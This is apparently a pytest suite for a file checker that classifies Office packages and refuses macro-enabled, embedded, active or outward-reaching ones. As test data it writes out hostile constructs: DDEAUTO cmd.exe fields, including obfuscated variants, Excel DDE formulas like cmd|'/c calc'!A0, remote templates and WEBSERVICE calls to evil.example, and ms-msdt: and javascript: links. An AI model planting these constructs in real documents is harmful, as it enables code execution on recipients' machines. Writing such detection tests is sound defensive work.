"""Office files of Microsoft's kind: found by what they declare, refused for what they would do."""

import io
import zipfile

import pytest

from survey.errors import SurveyError
from survey.evidence.judge.kinds import judge
from tests.survey.evidence.files import WORD, make_docx, make_image, make_xlsx, make_zip
from tests.survey.evidence.judge.packages import (
    FIRST,
    SHEETS,
    SLIDES,
    STRICT_RELATION,
    make_office,
    make_related,
    make_relations,
    make_sheet,
    make_slide,
    make_text,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
MACROS = OLE + "VBA".encode("utf-16-le")
OF_WORD = "application/vnd.ms-word."
HTML = b"<html><body><script>1</script></body></html>"


def outcome(content: bytes) -> str:
    try:
        kind, kept = judge(content)
    except SurveyError as error:
        return error.code
    assert kept == content
    return kind


def _with_backslashes() -> bytes:
    """As .NET packs it. zipfile itself would write slashes."""
    plain = make_office()
    for name in (b"_rels/.rels", b"word/document.xml"):
        plain = plain.replace(name, name.replace(b"/", b"\\"))
    return plain


def _field(*orders: str) -> str:
    """A field whose order is cut into pieces, as Word does after corrections."""
    pieces = "".join(
        f"<w:r><w:instrText>{order}</w:instrText></w:r>" for order in orders
    )
    begin, end = (
        '<w:fldChar w:fldCharType="begin"/>',
        '<w:fldChar w:fldCharType="end"/>',
    )
    return f"<w:p>{begin}{pieces}{end}</w:p>"


TAKEN = {
    "with its usual names": (make_office(), "docx"),
    "with another name for its text": (
        make_office(main="word/document2.xml"),
        "docx",
    ),
    "with its text in another folder": (make_office(main="docs/main.xml"), "docx"),
    "with backslashes": (_with_backslashes(), "docx"),
    "with other capitals": (
        make_zip(
            {
                "[content_types].xml": f'<Types><Override PartName="/Word/Document.xml" '
                f'ContentType="{WORD.upper()}"/></Types>',
                "word/document.xml": "<document/>",
            }
        ),
        "docx",
    ),
    "with its type by its ending": (
        make_zip(
            {
                "[Content_Types].xml": f'<Types><Default Extension="xml" '
                f'ContentType="{WORD}"/></Types>',
                "word/document.xml": "<document/>",
            }
        ),
        "docx",
    ),
    "strict": (
        make_office(
            parts={"_rels/.rels": make_relations(base=STRICT_RELATION)}
            | {FIRST: '<w:document xmlns:w="http://purl.oclc.org/ooxml/main"/>'}
        ),
        "docx",
    ),
    "in UTF-16": (
        make_office(parts={FIRST: '<?xml version="1.0"?><w/>'.encode("utf-16")}),
        "docx",
    ),
    "a workbook": (make_sheet("<c><f>SUM(A1:A9)</f><v>4</v></c>"), "xlsx"),
    "slides": (make_slide("<a:t>JavaScript</a:t>"), "pptx"),
    "a link": (make_related(("hyperlink", "https://a.example/a.js", True)), "docx"),
    "a picture": (
        make_related(
            ("image", "media/a.jpg", False), **{"word/media/a.jpg": make_image()}
        ),
        "docx",
    ),
    "a chart with its table": (
        make_related(
            ("package", "embeddings/a.xlsx", False),
            **{"word/embeddings/a.xlsx": make_xlsx()},
        ),
        "docx",
    ),
    "a template on its writer's disk": (
        make_related(("attachedTemplate", "file:///C:\\Users\\hoa\\Normal.dotm", True)),
        "docx",
    ),
    "words about exchanges": (
        make_text("<w:t>DDEAUTO cmd.exe</w:t>" + _field(" PAGE ")),
        "docx",
    ),
    "a link called DDE": (
        make_text(_field('HYPERLINK "https://a.example/DDE"')),
        "docx",
    ),
    "a picture from the writer's disk": (
        make_text(_field('INCLUDEPICTURE "C:\\\\a.png"')),
        "docx",
    ),
    "a formula with a bar in its text": (
        make_sheet("<f>CONCATENATE(A1,&quot;|&quot;,A2)</f>"),
        "xlsx",
    ),
    "a query that waits": (
        make_office(
            SHEETS,
            "xl/workbook.xml",
            {"xl/connections.xml": '<connections><connection id="1"/></connections>'},
        ),
        "xlsx",
    ),
    "settings of a printer": (
        make_office(
            SHEETS,
            "xl/workbook.xml",
            {"xl/printerSettings/printerSettings1.bin": b"H\0P\0" * 40},
        ),
        "xlsx",
    ),
    "a slide that jumps": (
        make_slide('<a:hlinkClick action="ppaction://hlinksldjump"/>'),
        "pptx",
    ),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_office_programs_open_is_taken_as_it_is(what):
    content, kind = TAKEN[what]
    assert outcome(content) == kind


MACRO_PARTS = {
    "by their usual name": make_docx(**{"word/vbaProject.bin": b"\0"}),
    "declared for the text": make_office(OF_WORD + "document.macroEnabled.main+xml"),
    "renamed": make_office(parts={"word/theme/theme9.dat": MACROS}),
    "renamed and declared": make_office(
        parts={"word/a.xml": b"\0"}, types={"word/a.xml": OF_WORD + "vbaProject"}
    ),
    "renamed and related": make_related(("vbaProject", "a.dat", False)),
    "of the old workbooks": make_office(
        SHEETS, "xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<macrosheet/>"}
    ),
    "of the old workbooks, renamed": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/sheet9.xml": "<macrosheet/>"},
        {"xl/sheet9.xml": "application/vnd.ms-excel.macrosheet+xml"},
    ),
    "with backslashes": make_office(parts={"word/vbaProject.bin": b"\0"}).replace(
        b"word/vbaProject.bin", b"word\\vbaProject.bin"
    ),
}


@pytest.mark.parametrize("way", MACRO_PARTS)
def test_macros_are_found_whatever_they_are_called(way):
    assert outcome(MACRO_PARTS[way]) == "file_macros"


CARRIES = {
    "an object": make_related(
        ("oleObject", "embeddings/a.bin", False), **{"word/embeddings/a.bin": OLE}
    ),
    "an object that nothing names": make_office(parts={"word/media/a.png": OLE}),
    "a program": make_office(parts={"word/media/a.png": b"MZ\x90\0"}),
    "a text of another program": make_office(parts={"word/a.dat": b"{\\rtf1"}),
    "a page as a part of its text": make_related(
        ("aFChunk", "a.htm", False), **{"word/a.htm": HTML}
    ),
    "a program as a package": make_related(
        ("package", "embeddings/a.exe", False), **{"word/embeddings/a.exe": b"x"}
    ),
}


@pytest.mark.parametrize("what", CARRIES)
def test_what_another_program_would_open_is_refused(what):
    assert outcome(CARRIES[what]) == "file_carries"


def test_a_file_inside_is_judged_as_if_it_came_alone():
    inner = make_office(parts={"word/vbaProject.bin": b"\0"})
    outer = make_related(("package", "a.docx", False), **{"word/a.docx": inner})
    assert outcome(outer) == "file_macros"


REACHES_OUT = {
    "a template": make_related(
        ("attachedTemplate", "https://evil.example/a.dotm", True)
    ),
    "a template on a server": make_related(
        ("attachedTemplate", "file://evil.example/a.dotm", True)
    ),
    "a template on a share": make_related(
        ("attachedTemplate", "\\\\evil\\a.dotm", True)
    ),
    "a template, strict": make_office(
        parts={
            "word/_rels/settings.xml.rels": make_relations(
                ("attachedTemplate", "http://evil.example/a", True),
                base=STRICT_RELATION,
            )
        }
    ),
    "an object": make_related(("oleObject", "file:///C:\\a.xls", True)),
    "a picture": make_related(("image", "https://evil.example/seen.png", True)),
    "a frame": make_related(("frame", "//evil.example/a", True)),
    "a part of the text": make_related(("subDocument", "ftp://evil.example/a", True)),
    "another workbook": make_office(
        SHEETS,
        "xl/workbook.xml",
        {
            "xl/externalLinks/_rels/externalLink1.xml.rels": make_relations(
                ("externalLinkPath", "https://evil.example/a.xlsx", True)
            )
        },
    ),
    "an exchange": make_text(_field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "an exchange in pieces": make_text(_field(" D", "DE", "AUTO cmd")),
    "an exchange in letters as numbers": make_text(_field("&#68;&#x44;E cmd")),
    "an exchange in a simple field": make_text('<w:fldSimple w:instr=" DDE cmd a "/>'),
    "an exchange with another prefix": make_text(
        '<x:fldSimple xmlns:x="http://purl.oclc.org/ooxml/main" x:instr="DDE cmd"/>'
    ),
    "an exchange inside a field": make_text(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>IF 1=1 </w:instrText>'
        + _field("DDEAUTO cmd")
        + '<w:fldChar w:fldCharType="end"/>'
    ),
    "an exchange spelled by a field": make_text(
        '<w:fldChar w:fldCharType="begin"/>'
        + _field("QUOTE 68 68 69")
        + '<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>'
    ),
    "an exchange without an end": make_text(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DDE cmd</w:instrText>'
    ),
    "an exchange in a head of a page": make_office(
        parts={"word/header1.xml": "<h>" + _field("DDE cmd").replace("w:", "") + "</h>"}
    ),
    "a picture by a field": make_text(
        _field('INCLUDEPICTURE "https://evil.example/a"')
    ),
    "a text by a field": make_text(_field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"')),
    "an exchange of a workbook": make_office(
        SHEETS,
        "xl/workbook.xml",
        {
            "xl/externalLinks/link1.xml": '<l xmlns:x="y"><x:ddeLink ddeService="cmd"/></l>'
        },
    ),
    "an exchange in a formula": make_sheet("<f>cmd|&apos;/c calc&apos;!A0</f>"),
    "an exchange in a quoted formula": make_sheet(
        "<f><![CDATA[cmd|'/c calc'!A0]]></f>"
    ),
    "an exchange under a name": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/workbook.xml": "<w><definedName name='a'>cmd|'/c x'!A0</definedName></w>"},
    ),
    "a page by a formula": make_sheet(
        "<f>WEBSERVICE(&quot;http://evil.example&quot;)</f>"
    ),
    "a picture by a formula": make_sheet('<f t="array">_xlfn.IMAGE(A1)</f>'),
    "a query that does not wait": make_office(
        SHEETS,
        "xl/workbook.xml",
        {"xl/connections.xml": '<all><connection id="1" refreshOnLoad="1"/></all>'},
    ),
}


@pytest.mark.parametrize("what", REACHES_OUT)
def test_what_is_fetched_by_opening_the_file_is_refused(what):
    assert outcome(REACHES_OUT[what]) == "file_reaches_out"


ACTIVE = {
    "a control": make_related(("control", "activeX/activeX1.xml", False)),
    "a control by its declared type": make_office(
        parts={"word/a.xml": "<ocx/>"},
        types={"word/a.xml": "application/vnd.ms-office.activeX+xml"},
    ),
    "a link that is a script": make_related(("hyperlink", "javascript:alert(1)", True)),
    "a link to a tool of the system": make_related(
        ("hyperlink", "ms-msdt:/id x", True)
    ),
    "a slide that starts a program": make_slide(
        '<a:hlinkClick action="ppaction&#58;//program"/>'
    ),
    "a slide that starts it by touch": make_slide(
        '<a:hlinkHover action="ppaction://program"/>'
    ),
}


@pytest.mark.parametrize("what", ACTIVE)
def test_what_runs_something_is_refused(what):
    assert outcome(ACTIVE[what]) == "file_active"


def _twice() -> bytes:
    out = io.BytesIO(make_office())
    with (
        zipfile.ZipFile(out, "a") as packed,
        pytest.warns(UserWarning, match="Duplicate"),
    ):
        packed.writestr(FIRST, "<other/>")
    return out.getvalue()


BROKEN = {
    "a document type": make_office(
        parts={"_rels/.rels": "<!DOCTYPE x [<!ENTITY a 'b'>]><Relationships/>"}
    ),
    "relations that are no XML": make_office(parts={"_rels/.rels": "<Relationships>"}),
    "a strange alphabet": make_office(
        parts={FIRST: '<?xml version="1.0" encoding="utf-7"?><w/>'}
    ),
    "half a sign": make_office(parts={FIRST: b"\xff\xfe<\0w\0\xd8"}),
    "a part twice": _twice,
    "a part twice, once in capitals": make_office(parts={FIRST.upper(): "<other/>"}),
    "a part outside": make_office(parts={"word/../../a.xml": "<a/>"}),
}


@pytest.mark.parametrize("what", BROKEN)
def test_what_no_office_program_writes_is_refused(what):
    content = BROKEN[what]
    assert outcome(content() if callable(content) else content) == "file_broken"


@pytest.mark.parametrize("padding", [b"\r\n", b"\0" * 5000, b" " * 100])
def test_padding_behind_an_office_file_does_no_harm(padding):
    assert outcome(make_office() + padding) == "docx"
    assert outcome(make_office() + padding + b"<script>") == "file_broken"


def test_a_large_zip_of_the_new_kind_is_taken():
    """Programs that write a part without knowing its size note it in 64 bits."""
    out = io.BytesIO(make_office())
    with (
        zipfile.ZipFile(out, "a") as packed,
        packed.open("word/styles.xml", "w", force_zip64=True) as part,
    ):
        part.write(b"<styles/>")
    assert outcome(out.getvalue()) == "docx"


def test_a_binary_workbook_is_named():
    kind = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    with pytest.raises(SurveyError) as caught:
        judge(make_office(kind, "xl/workbook.bin"))
    assert caught.value.params == {"kind": " (.xlsb)"}


def test_a_template_and_a_mixture_are_no_documents():
    template = WORD.replace("document.main", "template.main")
    assert outcome(make_office(template)) == "file_unknown"
    assert (
        outcome(make_office(parts={"xl/a.xml": "<a/>"}, types={"xl/a.xml": SHEETS}))
        == "file_unknown"
    )
    assert outcome(make_office(SLIDES, "ppt/presentation.xml")) == "pptx"
